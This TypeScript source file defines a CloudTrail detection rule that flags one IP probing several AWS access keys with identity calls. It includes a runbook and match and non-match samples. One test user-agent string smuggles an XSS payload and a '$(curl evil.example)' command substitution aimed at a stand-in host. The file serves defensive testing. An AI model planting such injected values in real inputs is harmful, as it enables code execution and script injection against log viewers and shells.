import { z } from 'zod';
import type { CloudEvent } from '../../core/index.js';
import { USER_AGENT_CLASSES } from '../../core/index.js';
import type { HitSummary } from '../rule.js';
import { defineRule } from '../rule.js';
import { denseWindowEntries } from '../state/windows.js';
import { distinct } from '../grouping.js';
import { sampleRecord, sampleRoleIdentity, sampleTime, sampleUserIdentity } from './samples.js';

/**
 * Calls an attacker makes to learn who a key is and what it may do (GetAccessKeyInfo is logged in
 * the caller's account only, so it shows when the batch holds keys of this account).
 */
const PROBES = [
  'GetCallerIdentity',
  'GetAccessKeyInfo',
  'GetUser',
  'ListAttachedUserPolicies',
  'ListUserPolicies',
  'ListGroupsForUser',
  'ListAccessKeys',
  'GetAccountAuthorizationDetails',
];

const options = z.object({
  minKeys: z
    .number()
    .int()
    .min(2)
    .max(1000)
    .default(3)
    .describe(
      'distinct identities (access keys of distinct IAM users or roles) from one source IP that make a finding',
    ),
  windowMinutes: z
    .number()
    .int()
    .min(1)
    .max(1440)
    .default(15)
    .describe('how close together the probes must be'),
  ignoreClients: z
    .array(z.enum(USER_AGENT_CLASSES))
    .default(['console', 'browser', 'terraform'])
    .describe(
      'user-agent classes whose probes are not counted: clients that hold one identity each (the console, a browser, Terraform checking who it runs as)',
    ),
});
type Options = z.infer<typeof options>;

const HOSTILE_UA =
  'python-requests/2.31.0 \u001b[1;31m<svg onload=alert(1)>\u001b[0m | $(curl evil.example)';
const KALI = 'aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off';
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const TERRAFORM =
  'APN/1.0 HashiCorp/1.0 Terraform/1.8.5 (+https://www.terraform.io) terraform-provider-aws/5.60.0 aws-sdk-go-v2/1.30.3 ua/2.0 os/linux lang/go#1.22.5 api/sts#1.30.3';
const T0 = '2025-03-04T09:00:00Z';
const ATTACKER = '198.51.100.23';
const NAT = '203.0.113.10';
const stolen = (i: number) => sampleUserIdentity(`svc-${i}`, `AKIAQEXAMPLESTOLEN0${i}`);

/**
 * The identity counted per source, so that what counts is how many identities a source holds:
 * an IAM user once, whichever of its keys or its console session made the call (a user rotating
 * a key, or checking the new one beside a console tab); a role once, however many sessions of it
 * (one developer's rotating SSO sessions, or several people signed in through one SSO permission
 * set behind one NAT); a federated user as the IAM user that issued it. A call logged without an
 * identity counts its key.
 */
function identityOf(e: CloudEvent): string | undefined {
  const id = e.identity;
  if (id.type === 'AssumedRole' || id.type === 'FederatedUser')
    return id.issuerArn ?? id.arn ?? id.accessKeyId;
  return id.arn ?? id.accessKeyId;
}

/** One source IP tries several access keys with identity probes in a short window. */
export const reconKeyEnumeration = defineRule<Options>({
  id: 'recon.key-enumeration',
  title: 'One source tries several access keys',
  severity: 'high',
  description: `One source IP made identity probes (${PROBES.join(', ')}) with the access keys of at least \`minKeys\` (default 3) distinct identities within \`windowMinutes\` (default 15) of each other: someone holding a batch of keys is finding out which work and what they are. An identity is an IAM user (its keys and its console session count once: a user rotating a key is one) or a role (its sessions count once: a developer's rotating SSO sessions, or several developers signed in through one SSO permission set behind an office NAT, are one); a federated user counts as the IAM user that issued it. Calls made by AWS services for the account (no IP address) are not counted, nor calls from the clients in \`ignoreClients\` (default the console, browsers and Terraform, which hold one identity each: several people behind one office NAT opening the IAM console, or CI jobs whose Terraform checks who it runs as, are not one person with a batch of keys). Benign look-alikes it stays quiet for: one CI key calling GetCallerIdentity all day, two developers behind one NAT, developers of one SSO permission set behind one NAT, administrators behind one NAT on the IAM console, Terraform runs of several CI roles behind one NAT gateway, AWS services calling for the account, a credential-inventory tool run by the security team (allow-list its CIDR or user agent). Several people behind one NAT with their own IAM user keys, or on as many different roles, running the plain CLI within the window can still reach \`minKeys\`: raise it, or allow-list the NAT's address. An attacker holding several sessions of one role (instance credentials of one instance profile) is one identity here.`,
  runbook: [
    "List the keys in details.accessKeys and who owns them; each one that answered without an error (details.keysThatWorked) is in the attacker's hands.",
    'Deactivate those keys now (aws iam update-access-key --status Inactive) and save the events first.',
    'Search for the source IP (details.sourceIp) across all CloudTrail: calls after the probes show what the working keys were used for (SES quota checks, instance launches, new users or keys).',
    'Find the common place the keys were stored (a repository, a CI system, a backup) — that is where they leaked — and rotate everything kept there.',
  ],
  attack: ['T1087.004', 'T1078.004'],
  source: 'cloudtrail',
  selector: { eventSources: ['sts.amazonaws.com', 'iam.amazonaws.com'], eventNames: PROBES },
  options: { schema: options },
  stateful: true,
  admit: (event, options) =>
    (event.sourceKind === 'ipv4' || event.sourceKind === 'ipv6') &&
    !options.ignoreClients.includes(event.userAgentClass) &&
    event.sourceIp !== undefined &&
    event.timeMs !== undefined &&
    identityOf(event) !== undefined,
  match(event, ctx) {
    const key = identityOf(event);
    if (event.sourceIp === undefined || key === undefined || event.timeMs === undefined)
      return undefined;
    const windowMs = ctx.options.windowMinutes * 60_000;
    const seen = ctx.state.window(event.sourceIp, key, windowMs);
    const dense = denseWindowEntries(seen, event.timeMs, windowMs, ctx.options.minKeys);
    if (dense.length === 0) return undefined;
    return { groupKey: event.sourceIp, events: dense };
  },
  describe(hits) {
    return describeEnumeration(hits);
  },
  samples: {
    match: [
      {
        name: 'a Kali CLI tries seven stolen keys with GetCallerIdentity from one IP',
        events: [1, 2, 3, 4, 5, 6, 7].map((i) =>
          sampleRecord({
            eventID: `enum-${i}`,
            userIdentity: stolen(i),
            sourceIPAddress: ATTACKER,
            userAgent: KALI,
            eventTime: sampleTime(T0, i),
            ...(i % 3 === 0 ? { errorCode: 'InvalidClientTokenId' } : {}),
          }),
        ),
        expect: {
          findings: 1,
          eventIds: [1, 2, 3, 4, 5, 6, 7].map((i) => `enum-${i}`),
        },
      },
      {
        name: 'three keys probed with GetUser and ListAttachedUserPolicies, logged out of order',
        events: [3, 1, 2].map((i) =>
          sampleRecord({
            eventID: `iam-${i}`,
            userIdentity: stolen(i),
            eventSource: 'iam.amazonaws.com',
            eventName: i === 2 ? 'ListAttachedUserPolicies' : 'GetUser',
            sourceIPAddress: ATTACKER,
            eventTime: sampleTime(T0, i * 4),
          }),
        ),
        expect: { findings: 1, eventIds: ['iam-1', 'iam-2', 'iam-3'] },
      },
      {
        name: 'a script on a hosting IPv6 address checks four keys with GetAccessKeyInfo, then GetCallerIdentity',
        events: [1, 2, 3, 4].map((i) =>
          sampleRecord({
            eventID: `v6-${i}`,
            userIdentity: stolen(i),
            eventName: i === 1 ? 'GetAccessKeyInfo' : 'GetCallerIdentity',
            sourceIPAddress: '2001:db8:4f2a::17',
            userAgent: HOSTILE_UA,
            eventTime: sampleTime(T0, i * 2),
          }),
        ),
        expect: { findings: 1, eventIds: ['v6-1', 'v6-2', 'v6-3', 'v6-4'] },
      },
      {
        name: 'instance credentials of three roles, taken over SSRF, checked from one IP',
        events: ['web-app', 'batch-worker', 'jenkins-agent'].map((role, i) =>
          sampleRecord({
            eventID: `ssrf-${i}`,
            userIdentity: {
              ...sampleRoleIdentity(role, `i-0${i}a1b2c3d4e5f6a7b`),
              accessKeyId: `ASIAQEXAMPLEINST000${i}`,
            },
            sourceIPAddress: ATTACKER,
            eventTime: sampleTime(T0, i),
          }),
        ),
        expect: { findings: 1, eventIds: ['ssrf-0', 'ssrf-1', 'ssrf-2'] },
      },
    ],
    nonMatch: [
      {
        name: 'one CI key calling GetCallerIdentity every 20 minutes all day',
        events: Array.from({ length: 72 }, (_, i) =>
          sampleRecord({
            userIdentity: sampleUserIdentity('ci-bot', 'AKIAQEXAMPLECIBOT001'),
            sourceIPAddress: NAT,
            eventTime: sampleTime(T0, i * 20),
          }),
        ),
      },
      {
        name: 'two developers behind one NAT checking who they are',
        events: [0, 1, 2, 3].map((i) =>
          sampleRecord({
            userIdentity:
              i % 2 === 0
                ? sampleUserIdentity('dev-jane', 'AKIAQEXAMPLEJANE0001')
                : sampleUserIdentity('dev-omar', 'AKIAQEXAMPLEOMAR0001'),
            sourceIPAddress: NAT,
            eventTime: sampleTime(T0, i),
          }),
        ),
      },
      {
        name: "one developer's rotating SSO sessions (new session keys, same principal)",
        events: [1, 2, 3, 4].map((i) =>
          sampleRecord({
            userIdentity: {
              ...sampleRoleIdentity('AWSReservedSSO_Dev_0123456789abcdef', 'jane@example.com'),
              accessKeyId: `ASIAQEXAMPLESSO0000${i}`,
            },
            sourceIPAddress: NAT,
            eventTime: sampleTime(T0, i),
          }),
        ),
      },
      {
        name: 'AWS services calling for the account with several keys (no IP address)',
        events: [1, 2, 3, 4].map((i) =>
          sampleRecord({
            userIdentity: stolen(i),
            sourceIPAddress: 'cloudformation.amazonaws.com',
            userAgent: 'cloudformation.amazonaws.com',
            eventTime: sampleTime(T0, i),
          }),
        ),
      },
      {
        name: 'three administrators behind one office NAT open the IAM console',
        events: ['jane', 'omar', 'li'].map((who, i) =>
          sampleRecord({
            userIdentity: {
              ...sampleRoleIdentity('AWSReservedSSO_Admin_0123456789abcdef', `${who}@example.com`),
              accessKeyId: `ASIAQEXAMPLEADM0000${i}`,
            },
            eventSource: 'iam.amazonaws.com',
            eventName: 'GetUser',
            sourceIPAddress: NAT,
            userAgent: i === 2 ? 'console.amazonaws.com' : FIREFOX,
            eventTime: sampleTime(T0, i),
          }),
        ),
      },
      {
        name: 'Terraform plans of three CI roles behind one NAT gateway check who they run as',
        events: ['deploy-web', 'deploy-api', 'deploy-data'].map((role, i) =>
          sampleRecord({
            userIdentity: {
              ...sampleRoleIdentity(role, 'gha'),
              accessKeyId: `ASIAQEXAMPLECI00000${i}`,
            },
            sourceIPAddress: NAT,
            userAgent: TERRAFORM,
            eventTime: sampleTime(T0, i),
          }),
        ),
      },
      {
        name: 'four developers signed in through one SSO permission set behind the office NAT check who they are with the CLI',
        events: ['jane', 'li', 'ana', 'kofi'].map((who, i) =>
          sampleRecord({
            userIdentity: {
              ...sampleRoleIdentity(
                'AWSReservedSSO_Developer_5b2a0c8e1f3d4a6b',
                `${who}@example.com`,
              ),
              accessKeyId: `ASIAQEXAMPLEDEVSSO0${i}`,
            },
            sourceIPAddress: NAT,
            userAgent: 'aws-cli/2.17.32 md/awscrt#0.21.2 ua/2.0 os/macos#23.6.0 md/arch#arm64',
            eventTime: sampleTime(T0, i * 2),
          }),
        ),
      },
      {
        name: "a user rotates their key: the old key, the console session making the new one, the new key, and a colleague's SSO session",
        events: [
          sampleRecord({
            userIdentity: sampleUserIdentity('dev-omar', 'AKIAQEXAMPLEOMAROLD1'),
            sourceIPAddress: NAT,
            eventTime: T0,
          }),
          sampleRecord({
            userIdentity: {
              ...sampleUserIdentity('dev-omar', 'ASIAQEXAMPLEOMARCON1'),
              sessionContext: { attributes: { mfaAuthenticated: 'true' } },
            },
            eventSource: 'iam.amazonaws.com',
            eventName: 'ListAccessKeys',
            sourceIPAddress: NAT,
            userAgent: 'AWS Internal',
            eventTime: sampleTime(T0, 1),
          }),
          sampleRecord({
            userIdentity: sampleUserIdentity('dev-omar', 'AKIAQEXAMPLEOMARNEW1'),
            sourceIPAddress: NAT,
            eventTime: sampleTime(T0, 4),
          }),
          sampleRecord({
            userIdentity: {
              ...sampleRoleIdentity(
                'AWSReservedSSO_Developer_5b2a0c8e1f3d4a6b',
                'jane@example.com',
              ),
              accessKeyId: 'ASIAQEXAMPLEDEVSSO00',
            },
            sourceIPAddress: NAT,
            eventTime: sampleTime(T0, 5),
          }),
        ],
      },
      {
        name: 'three keys from one IP, hours apart',
        events: [1, 2, 3].map((i) =>
          sampleRecord({
            userIdentity: stolen(i),
            sourceIPAddress: ATTACKER,
            eventTime: sampleTime(T0, i * 120),
          }),
        ),
      },
    ],
  },
});

function describeEnumeration(hits: readonly HitSummary[]) {
  const first = hits[0]!;
  const keys = distinct(hits.map((h) => h.accessKeyId));
  const worked = distinct(hits.filter((h) => h.errorCode === undefined).map((h) => h.accessKeyId));
  const principals = distinct(hits.map((h) => h.principalArn));
  return {
    // The threshold counts identities (a role once, a user once); say so when keys differ.
    title: `${keys.length} access keys${principals.length === keys.length ? '' : ` (${principals.length} identities)`} probed from ${first.sourceIp ?? 'one source'}`,
    details: {
      sourceIp: first.sourceIp ?? null,
      accessKeys: keys,
      keysThatWorked: worked,
      principals,
      probes: distinct(hits.map((h) => h.eventName)),
      userAgents: distinct(hits.map((h) => h.userAgent)),
      calls: hits.length,
      errorCodes: distinct(hits.map((h) => h.errorCode)),
    },
  };
}
